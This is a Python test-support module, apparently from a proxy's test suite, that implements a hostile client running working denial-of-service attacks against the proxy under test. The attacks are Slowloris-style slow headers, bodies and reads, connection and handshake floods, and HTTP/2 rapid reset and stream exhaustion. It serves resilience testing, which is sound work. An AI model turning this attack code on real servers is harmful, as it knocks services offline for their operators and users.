"""A hostile client of the public proxy, at an address of its own; each attack runs until it is left."""

from __future__ import annotations

import asyncio
import contextlib
import secrets
import ssl
import subprocess
import threading
import time
from collections.abc import Awaitable, Callable, Iterator
from dataclasses import dataclass, field

from h2.config import H2Configuration
from h2.connection import H2Connection

from tests.support.proxy.stand import trusting

CONNECTIONS = 1_000
# As many HTTP/2 streams as the proxy allows in a connection.
STREAMS = 100
PAUSE_SECONDS = 1.0
# Before the next connection in place of one that the proxy closed.
AGAIN_SECONDS = 0.5
PATIENCE_SECONDS = 60.0
POST = b"POST /body HTTP/1.1\r\nHost: plain.example.test\r\nContent-Length: 1000000\r\n\r\n"
GET = b"GET /huge HTTP/1.1\r\nHost: plain.example.test\r\n\r\n"


@dataclass
class Attacker:
    """Where it connects to and from; how many connections it made, holds now, and could not make."""

    source: str
    address: str
    port: int = 443
    made: int = 0
    held: int = 0
    refused: int = 0
    ended: threading.Event = field(default_factory=threading.Event)

    async def connect(self, attack: Attack) -> None:
        """Make a connection and attack by it until the proxy closes it, or until the end."""
        try:
            reader, writer = await asyncio.open_connection(
                self.address, self.port, ssl=attack.context, local_addr=(self.source, 0)
            )
        except OSError:
            self.refused += 1
            return
        self.made += 1
        self.held += 1
        with contextlib.suppress(OSError):
            await attack.act(self, reader, writer)
        self.held -= 1
        writer.transport.abort()


@dataclass(frozen=True)
class Attack:
    """What each of its connections does."""

    act: Callable[[Attacker, asyncio.StreamReader, asyncio.StreamWriter], Awaitable[None]]
    connections: int = CONNECTIONS
    context: ssl.SSLContext | None = field(default_factory=trusting)


async def _drip(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, text: bytes) -> None:
    """Send a little at a time, until the proxy closes the connection."""
    while not attacker.ended.is_set() and not writer.is_closing() and not reader.at_eof():
        writer.write(text)
        await writer.drain()
        with contextlib.suppress(TimeoutError):
            await asyncio.wait_for(reader.read(100), PAUSE_SECONDS)


async def _slow_headers(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Never finish the headers (Slowloris)."""
    writer.write(b"GET / HTTP/1.1\r\nHost: plain.example.test\r\n")
    await _drip(attacker, reader, writer, b"X: y\r\n")


async def _slow_body(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send a body a byte at a time."""
    writer.write(POST)
    await _drip(attacker, reader, writer, b"x")


async def _slow_read(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Ask for a large page and read hardly any of it."""
    writer.write(GET)
    await _drip(attacker, reader, writer, b"")


async def _silence(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Send nothing."""
    await _drip(attacker, reader, writer, b"")


async def _leave(_attacker: Attacker, _reader: asyncio.StreamReader, _writer: asyncio.StreamWriter) -> None:
    """Close after the handshake."""


def _headers(method: str) -> list[tuple[str, str]]:
    length = [("content-length", "1000000")] if method == "POST" else []
    host = [(":scheme", "https"), (":authority", "plain.example.test")]
    return [(":method", method), (":path", "/body"), *host, *length]


async def _rapid_reset(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Open HTTP/2 streams and reset each at once (CVE-2023-44487)."""
    streams = H2Connection(H2Configuration(client_side=True))
    streams.initiate_connection()
    while not attacker.ended.is_set() and not writer.is_closing() and not reader.at_eof():
        for _ in range(STREAMS):
            number = streams.get_next_available_stream_id()
            streams.send_headers(number, _headers("GET"))
            streams.reset_stream(number)
        writer.write(streams.data_to_send())
        await writer.drain()
        await asyncio.sleep(0)


async def _many_streams(attacker: Attacker, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    """Open as many HTTP/2 streams as a connection may have, each with a body that does not come."""
    streams = H2Connection(H2Configuration(client_side=True))
    streams.initiate_connection()
    for _ in range(STREAMS):
        streams.send_headers(streams.get_next_available_stream_id(), _headers("POST"))
    writer.write(streams.data_to_send())
    await _drip(attacker, reader, writer, b"")


def _http2() -> ssl.SSLContext:
    context = trusting()
    context.set_alpn_protocols(["h2"])
    return context


ATTACKS = {
    "slow headers": Attack(_slow_headers),
    "slow body": Attack(_slow_body),
    "slow read": Attack(_slow_read),
    "no handshake": Attack(_silence, context=None),
    "handshakes": Attack(_leave, connections=64),
    "rapid reset": Attack(_rapid_reset, connections=4, context=_http2()),
    "many streams": Attack(_many_streams, connections=20, context=_http2()),
}


async def _run(attack: Attack, attacker: Attacker) -> None:
    async def again() -> None:
        while not attacker.ended.is_set():
            await attacker.connect(attack)
            await asyncio.sleep(AGAIN_SECONDS)

    await asyncio.gather(*(again() for _ in range(attack.connections)))


@contextlib.contextmanager
def attacking(attack: Attack, attacker: Attacker) -> Iterator[Attacker]:
    """Attack until the end; as many connections were made or refused before this yields."""
    thread = threading.Thread(target=lambda: asyncio.run(_run(attack, attacker)), daemon=True)
    thread.start()
    try:
        deadline = time.monotonic() + PATIENCE_SECONDS
        while attacker.made + attacker.refused < attack.connections:
            assert time.monotonic() < deadline, attacker
            time.sleep(0.05)
        yield attacker
    finally:
        attacker.ended.set()
        thread.join(PATIENCE_SECONDS)


@contextlib.contextmanager
def own_address() -> Iterator[str]:
    """Yield an address that this host has besides all others (RFC 2544), to connect from."""
    address = f"198.18.{secrets.randbelow(256)}.{1 + secrets.randbelow(254)}"
    subprocess.run(("ip", "address", "add", f"{address}/32", "dev", "lo"), check=True)
    try:
        yield address
    finally:
        subprocess.run(("ip", "address", "delete", f"{address}/32", "dev", "lo"), check=True)
